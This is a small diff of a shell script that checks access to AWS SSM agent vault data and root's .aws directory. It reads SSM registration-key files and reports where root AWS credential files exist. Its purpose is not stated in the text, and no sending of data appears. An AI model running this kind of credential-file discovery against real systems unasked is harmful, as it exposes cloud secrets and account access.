@@ -3,7 +3,7 @@ member() {
     sed -n "s/.*\"$2\"[[:space:]]*:[[:space:]]*\"\([^\"]*\)\".*/\1/p" "$1" | first_line
 }
 
-if [ -r /opt/aws/ssm/data ] || [ ! -e /opt/aws/ssm/data ]; then
+if can_see /opt/aws/ssm/data/Vault/Store; then
     tell looked vault
 fi
 for file in /opt/aws/ssm/data/Vault/Store/RegistrationKey /opt/aws/ssm/data/registration; do
@@ -14,7 +14,7 @@ for file in /opt/aws/ssm/data/Vault/Store/RegistrationKey /opt/aws/ssm/data/regi
             "${region:-$(member "$file" Region)}"
     fi
 done
-if [ -r /var/root ]; then
+if can_see /var/root/.aws; then
     tell looked root
     if [ -e /var/root/.aws/credentials ]; then
         tell credentials /var/root/.aws/credentials
